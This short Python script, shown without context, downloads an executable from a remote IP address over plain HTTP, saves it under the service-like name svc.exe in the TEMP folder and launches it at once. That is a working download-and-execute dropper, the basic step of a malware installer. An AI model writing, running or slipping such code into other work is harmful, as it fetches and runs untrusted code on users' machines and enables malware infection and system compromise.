import os
import requests
target = os.path.join(os.environ["TEMP"], "svc.exe")
open(target, "wb").write(requests.get("http://198.51.100.20/svc.exe").content)
os.startfile(target)
